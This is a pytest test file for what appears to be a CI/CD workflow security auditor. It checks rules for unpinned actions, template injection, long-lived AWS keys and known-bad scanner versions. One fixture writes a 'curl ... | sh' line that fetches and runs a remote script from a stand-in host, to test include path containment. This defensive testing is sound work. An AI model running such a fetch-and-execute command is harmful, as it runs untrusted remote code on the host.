"""Every finding on its own hand-written workflow: the positive fixture raises it at the
expected line, the negative fixture (the fixed version) does not."""

from __future__ import annotations

from pathlib import Path

import pytest

from trailhound.cicd import RULES, audit

WF = Path(__file__).parent / "workflows"

# rule id -> (positive fixture, negative fixture, lines the positive must report)
CASES: dict[str, tuple[str, str, set[int]]] = {
    "unpinned-action": ("unpinned-action.pos.yml", "unpinned-action.neg.yml", {12, 13}),
    "unpinned-reusable-workflow": ("unpinned-reusable-workflow.pos.yml",
                                   "unpinned-reusable-workflow.neg.yml", {6}),
    "unpinned-image": ("unpinned-image.pos.yml", "unpinned-image.neg.yml", {7, 10, 12, 13}),
    "runtime-tool-install": ("runtime-tool-install.pos.yml", "runtime-tool-install.neg.yml",
                             {11, 12, 13, 14}),
    "long-lived-aws-key": ("long-lived-aws-key.pos.yml", "long-lived-aws-key.neg.yml",
                           {12, 29}),
    "permissions-missing": ("permissions-missing.pos.yml", "permissions-missing.neg.yml",
                            {1, 4, 8}),
    "permissions-write-all": ("permissions-write-all.pos.yml",
                              "permissions-write-all.neg.yml", {3}),
    "permissions-broad": ("permissions-broad.pos.yml", "permissions-broad.neg.yml",
                          {5, 6, 14}),
    "dangerous-trigger": ("dangerous-trigger.pos.yml", "dangerous-trigger.neg.yml", {3}),
    "untrusted-checkout": ("untrusted-checkout.pos.yml", "untrusted-checkout.neg.yml", {11}),
    "template-injection": ("template-injection.pos.yml", "template-injection.neg.yml",
                           {14, 15, 19, 22, 29, 30}),
    "no-egress-restriction": ("no-egress-restriction.pos.yml",
                              "no-egress-restriction.neg.yml", {6}),
    "known-bad-version": ("known-bad-version.pos.yml", "known-bad-version.neg.yml",
                          {9, 10, 11, 12, 14, 15, 16}),
    "unpinned-include": ("gitlab/.gitlab-ci.yml", "gitlab-clean/.gitlab-ci.yml", {2, 3}),
}


def _rule_lines(path: Path, rule: str) -> set[int]:
    res = audit([path])
    assert not res.errors, res.errors
    return {f.line for f in res.findings if f.rule_id == rule}


def test_every_rule_has_a_case() -> None:
    assert set(CASES) == set(RULES)


@pytest.mark.parametrize("rule", sorted(CASES))
def test_positive(rule: str) -> None:
    pos, _neg, lines = CASES[rule]
    assert _rule_lines(WF / pos, rule) == lines


@pytest.mark.parametrize("rule", sorted(CASES))
def test_negative(rule: str) -> None:
    _pos, neg, _lines = CASES[rule]
    assert _rule_lines(WF / neg, rule) == set()


def _by_line(path: Path, rule: str) -> dict[int, str]:
    return {f.line: f.severity for f in audit([path]).findings if f.rule_id == rule}


def test_severity_reflects_risk() -> None:
    # The reference attack: key in env + scanner by mutable tag in the same job.
    sev = _by_line(WF / "long-lived-aws-key.pos.yml", "long-lived-aws-key")
    assert sev == {12: "critical", 29: "high"}
    # GitHub-owned actions unpinned are low; third-party high.
    res = audit([WF / "unpinned-action.pos.yml"])
    assert {f.severity for f in res.findings if f.rule_id == "unpinned-action"} == {"high"}
    # A scanner image unpinned is high, other images medium.
    img = _by_line(WF / "unpinned-image.pos.yml", "unpinned-image")
    assert img == {7: "medium", 10: "medium", 12: "medium", 13: "high"}
    inj = _by_line(WF / "template-injection.pos.yml", "template-injection")
    # Direct and env-indirect attacker fields are high; a matrix built from a payload field
    # whose content we cannot name is medium.
    assert inj == {14: "high", 15: "high", 19: "high", 22: "high", 29: "medium", 30: "low"}


def test_first_party_unpinned_is_low(tmp_path: Path) -> None:
    f = tmp_path / "w.yml"
    f.write_text("on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n"
                 "      - uses: actions/checkout@v4\n")
    res = audit([f])
    assert [(x.rule_id, x.severity, x.line) for x in res.findings] == [
        ("unpinned-action", "low", 7)]


def test_oidc_job_is_not_a_long_lived_key() -> None:
    res = audit([WF / "long-lived-aws-key.neg.yml"])
    assert res.findings == []
    assert res.profiles == []


def test_known_bad_details() -> None:
    res = audit([WF / "known-bad-version.pos.yml"])
    kb = {f.line: f for f in res.findings if f.rule_id == "known-bad-version"}
    assert kb[10].severity == "critical" and kb[10].detail["match"] == "exact"
    assert kb[9].detail["match"] == "could-resolve"  # @v45 could point at 45.0.7
    assert kb[14].detail["advisory"] == "GHSA-69fq-xp46-6x23"  # trivy 0.69.4 via setup-trivy
    assert kb[16].severity == "critical"  # aquasec/trivy:0.69.5 image
    for f in kb.values():
        assert f.detail["sources"] and all(s.startswith("https://") for s in f.detail["sources"])


def test_composite_action() -> None:
    res = audit([WF / "action" / "action.yml"])
    assert {(f.rule_id, f.line) for f in res.findings} == {
        ("unpinned-action", 9), ("runtime-tool-install", 11), ("template-injection", 11)}


def test_gitlab_local_include_is_followed() -> None:
    res = audit([WF / "gitlab"])
    assert res.files == [".gitlab-ci.yml", "ci/scan.yml"]
    scan = {(f.rule_id, f.line) for f in res.findings if f.path == "ci/scan.yml"}
    assert ("known-bad-version", 2) in scan and ("runtime-tool-install", 4) in scan
    # The included scanner job sees the including file's global AWS key variables: the
    # reference attack in GitLab form (scanner by mutable tag next to a long-lived key).
    inherited = [f for f in res.findings if f.rule_id == "long-lived-aws-key"
                 and f.path == "ci/scan.yml"]
    assert [(f.line, f.job, f.severity) for f in inherited] == [(1, "scan", "critical")]
    assert [p["workflow"] for p in res.profiles] == [".gitlab-ci.yml", "ci/scan.yml"]
    assert res.profiles[1]["aws_region"] == "eu-west-1"
    # The anchor-merged image is reported once, not once per job that merges it.
    assert sum(1 for f in res.findings if f.rule_id == "unpinned-image"
               and f.path == ".gitlab-ci.yml") == 1


def test_gitlab_include_cannot_escape_root(tmp_path: Path) -> None:
    (tmp_path / "repo").mkdir()
    (tmp_path / "outside.yml").write_text("x:\n  script: curl https://e.x/i.sh | sh\n")
    (tmp_path / "repo" / ".gitlab-ci.yml").write_text(
        "include:\n  - local: ../outside.yml\nbuild:\n  script: make\n")
    res = audit([tmp_path / "repo"])
    assert res.files == [".gitlab-ci.yml"]


def test_key_passed_to_reusable_workflow(tmp_path: Path) -> None:
    f = tmp_path / "w.yml"
    f.write_text("on: push\npermissions: {}\njobs:\n  deploy:\n"
                 "    uses: org/infra/.github/workflows/deploy.yml@" + "a" * 40 + "\n"
                 "    secrets:\n      AWS_ACCESS_KEY_ID: ${{ secrets.PROD_KEY }}\n"
                 "      AWS_SECRET_ACCESS_KEY: ${{ secrets.PROD_SECRET }}\n")
    res = audit([f])
    assert [(x.rule_id, x.line, x.severity) for x in res.findings] == [
        ("long-lived-aws-key", 7, "high")]
    assert res.profiles[0]["secret_names"] == ["PROD_KEY", "PROD_SECRET"]


def test_hardcoded_key_is_critical(tmp_path: Path) -> None:
    f = tmp_path / "w.yml"
    f.write_text("on: push\npermissions: {}\nenv:\n  AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE\n"
                 "jobs:\n  a:\n    runs-on: x\n    steps:\n"
                 "      - run: aws sts get-caller-identity\n")
    (k,) = [x for x in audit([f]).findings if x.rule_id == "long-lived-aws-key"]
    assert (k.line, k.severity) == (4, "critical")
